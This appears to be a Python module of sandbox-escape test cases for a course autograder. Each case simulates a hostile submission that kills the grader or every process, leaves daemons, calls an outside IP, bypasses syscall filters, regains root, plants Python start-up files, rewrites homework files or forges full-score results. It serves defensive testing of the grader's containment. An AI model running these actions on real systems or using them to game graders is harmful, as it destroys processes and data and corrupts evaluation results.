"""Reaching out of the check: other processes, other files, other machines, and staying on."""

import torch  # noqa: F401

from staff.authoring.hostile import attack


@attack("2a", told="differ|expected|no gradient")
def daemon_left(self, images, labels):
    """A process that has cut every tie waits for the grader to finish."""
    import os

    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "4711.4711"])
        os._exit(0)
    return labels * 0.0


@attack("2a", told="cannot be read|differ|expected|no gradient")
def writers_left(self, images, labels):
    """Processes that go on writing to everything they have inherited."""
    import os
    import time

    for _ in range(4):
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            while True:
                for handle in range(1, 100):
                    try:
                        os.write(handle, b"x")
                    except OSError:
                        pass
                time.sleep(0.01)
    return labels * 0.0


@attack("2a", told="ended in the middle|still running|raised", limit=4)
def orphans_left(self, images, labels):
    """The process dies first, and its children live on."""
    import os

    for _ in range(5):
        if os.fork() == 0:
            try:
                os.setsid()
            except OSError:
                pass
            os.fork()
            os.execv("/bin/sleep", ["sleep", "4711.4711"])
    os._exit(0)


@attack("2a", told="PermissionError")
def parent_killed(self, images, labels):
    """Kills the process that forked this one."""
    import os
    import signal

    os.kill(os.getppid(), signal.SIGKILL)
    return labels * 0.0


@attack("2a", told="PermissionError")
def kernel_asked_to_kill(self, images, labels):
    """A file that sends its owner a signal when it can be read: the owner is the process above."""
    import fcntl
    import os
    import socket

    one, other = socket.socketpair()
    for ask in (
        lambda: fcntl.ioctl(one.fileno(), 0x8901, os.getppid().to_bytes(4, "little")),
        lambda: fcntl.fcntl(one.fileno(), fcntl.F_SETOWN, os.getppid()),
    ):
        try:
            ask()
        except PermissionError as error:
            told = error
            continue
        fcntl.fcntl(one.fileno(), fcntl.F_SETSIG, 9)
        fcntl.fcntl(one.fileno(), fcntl.F_SETFL, os.O_ASYNC)
        other.send(b"x")
    raise told


@attack("2a", told="PermissionError")
def everybody_killed(self, images, labels):
    """Kills every process that it may."""
    import os
    import signal

    os.kill(-1, signal.SIGKILL)
    return labels * 0.0


@attack("2a", told="PermissionError|ProcessLookupError")
def neighbours_killed(self, images, labels):
    """Stops and kills by number, whatever is there."""
    import os
    import pathlib
    import signal

    failed = None
    for process in pathlib.Path("/proc").glob("[0-9]*"):
        if int(process.name) != os.getpid():
            try:
                os.kill(int(process.name), signal.SIGSTOP)
            except OSError as error:
                failed = error
    raise failed


@attack("2a", told="PermissionError")
def limits_of_the_parent_lowered(self, images, labels):
    """Starves the grader of files and time."""
    import os
    import resource

    try:
        os.setpriority(os.PRIO_PROCESS, os.getppid(), 19)
    except PermissionError:
        resource.prlimit(os.getppid(), resource.RLIMIT_CPU, (1, 1))
    return labels * 0.0


@attack("2a", told="PermissionError")
def internet_called(self, images, labels):
    """Asks someone else for the answer."""
    import urllib.request

    try:
        urllib.request.urlopen("http://192.0.2.1/", timeout=1)
    except urllib.error.URLError as error:
        raise error.reason from None
    return labels * 0.0


@attack("2a", told="PermissionError")
def datagram_sent(self, images, labels):
    """Carries the inputs out, one name at a time."""
    import socket

    socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b"x", ("::1", 53))
    return labels * 0.0


@attack("2a", told="PermissionError")
def socket_left(self, images, labels):
    """Listens under a name, for whoever comes later."""
    import socket

    line = socket.socket(socket.AF_UNIX)
    line.bind("\0attack-left")
    line.listen()
    return labels * 0.0


@attack("2a", told="PermissionError")
def filter_bypassed(self, images, labels):
    """Asks for a socket by a way that filters do not see."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    if libc.syscall(425, 8, ctypes.create_string_buffer(256)) >= 0:
        raise RuntimeError("STOLEN an io_uring")
    raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


@attack("2a", told="PermissionError")
def own_namespace(self, images, labels):
    """Becomes root of a world of its own, with more of the kernel in reach."""
    import ctypes
    import os

    libc = ctypes.CDLL(None, use_errno=True)
    for flags in (0x10000000, 0x00020000, 0x40000000):
        if libc.unshare(flags) == 0:
            raise RuntimeError("STOLEN a namespace")
    if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0:
        raise RuntimeError("STOLEN a mount")
    raise PermissionError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


@attack("2a", told="PermissionError")
def root_again(self, images, labels):
    """Takes back the rights that were given up."""
    import os

    if os.getuid() == 0:
        os.chown(os.getcwd(), 1, 1)  # root without rights owns nothing but its own
    os.setgroups([0])
    os.setresuid(0, 0, 0)
    return labels * 0.0


@attack("2a", told="not permitted|Read-only")
def metadata_changed(self, images, labels):
    """Takes away rights and changes times of everything that this process can name."""
    import os
    import pathlib
    import sys

    refused = None
    for start in (*sys.path, sys.prefix, sys.executable, "/proc/self/exe", __file__, "/tmp", "/"):
        for folder in (pathlib.Path(start), *pathlib.Path(start).parents):
            for change in (
                lambda p: os.chmod(p, 0),
                lambda p: os.utime(p, (1, 1)),
                lambda p: os.setxattr(p, "user.attack-left", b""),
            ):
                try:
                    change(folder)
                except FileNotFoundError:
                    continue
                except OSError as error:
                    refused = error
                    continue
                raise RuntimeError(f"STOLEN the rights of {folder}")
    raise refused


@attack("2a", told="PermissionError|Read-only|differ|expected|no gradient")
def homework_rewritten(self, images, labels):
    """Rewrites probes and the other files of the homework for the checks to come."""
    import pathlib

    tree = pathlib.Path(__file__).parent.parent
    for path in [*tree.rglob("*.py"), tree / "hw1" / "json.py"]:
        path.write_text("raise RuntimeError('STOLEN by an earlier check')\n")
    return labels * 0.0


@attack("2a", told="differ|expected|no gradient")
def python_rewritten(self, images, labels):
    """Puts start-up files where the next interpreter would run them."""
    import pathlib
    import pwd
    import site
    import sys

    home = pathlib.Path(pwd.getpwuid(0).pw_dir)
    for folder in [*site.getsitepackages(), *sys.path, home, home / ".config", "/etc"]:
        for name in ("sitecustomize.py", "attack-left.pth", ".bashrc-attack-left"):
            try:
                place = pathlib.Path(folder, name)
                new = not place.exists()
                with place.open("a") as stream:
                    stream.write("")
            except OSError:
                continue
            if new:
                place.unlink()
            raise RuntimeError(f"STOLEN: could write {place}")
    return labels * 0.0


@attack("2a", told="differ|expected|no gradient")
def results_overwritten(self, images, labels):
    """Writes full marks wherever a grader may look for its results."""
    import pathlib

    places = ["/autograder/results", "/tmp", "/var/tmp", "/dev/shm", "/run", ".."]
    for part in pathlib.Path("/proc").glob("[0-9]*"):
        try:
            places.append(str((part / "cwd").resolve()))
            places += part.joinpath("cmdline").read_bytes().decode().split("\0")
        except OSError:
            pass
    for place in places:
        for path in (pathlib.Path(place), pathlib.Path(place, "results.json-attack-left")):
            try:
                if path.suffix.startswith(".json"):
                    path.write_text('{"score": 100}')
            except OSError:
                pass
    return labels * 0.0


@attack("2a", told="differ|expected|no gradient")
def litter(self, images, labels):
    """Leaves files in every place that everybody may write to."""
    import os
    import pathlib

    for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/dev/mqueue"):
        try:
            pathlib.Path(folder, "attack-left-file").write_text("x")
            os.mkfifo(f"{folder}/attack-left-pipe")
        except OSError:
            pass
    return labels * 0.0


@attack("2a", told="differ|expected|no gradient")
def scratch_of_others_read(self, images, labels):
    """Looks into the folders of checks that run at the same time."""
    import os
    import pathlib

    own = os.getcwd()
    for folder in [own, *pathlib.Path(own).parent.glob("check-*")]:
        if str(folder) != own and os.access(folder, os.W_OK):
            raise RuntimeError("STOLEN the folder of another check")
    return labels * 0.0


@attack("2a", told="cannot be read|differ|expected|no gradient")
def handle_sent_to_the_grader(self, images, labels):
    """Sends open files along with the answer, until the grader has none left."""
    import array
    import socket

    line = None
    for handle in range(3, 100):
        try:
            line = socket.socket(fileno=handle)
            break
        except OSError:
            continue
    if line is not None:
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [1] * 100))
        line.sendmsg([b"\0"], [rights])
        line.detach()
    return labels * 0.0


@attack("2a", told="PermissionError|differ|expected|no gradient", at_import=True)
def daemon_left_at_import():
    """The daemon is started as soon as the file is imported, before any check."""
    import os

    if os.fork() == 0:
        try:
            os.setsid()
        except OSError:
            pass
        if os.fork() == 0:
            os.execv("/bin/sleep", ["sleep", "4711.4711"])
        os._exit(0)


@attack("2a", told="differ|expected|no gradient")
def running_programs_appended_to(self, images, labels):
    """Opens the scripts that still run, to append to them: a shell reads its script as it goes."""
    import os
    import pathlib

    places = {"/autograder/run_autograder", "/autograder/source/setup.sh"}
    for part in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
        try:
            places.update(part.read_bytes().decode().split("\0"))
        except OSError:
            pass
    for place in sorted(p for p in places if p.startswith("/") and not p.startswith("/dev")):
        try:
            os.close(os.open(place, os.O_WRONLY | os.O_APPEND))
        except OSError:
            continue
        raise RuntimeError(f"STOLEN: could append to {place}")
    return labels * 0.0
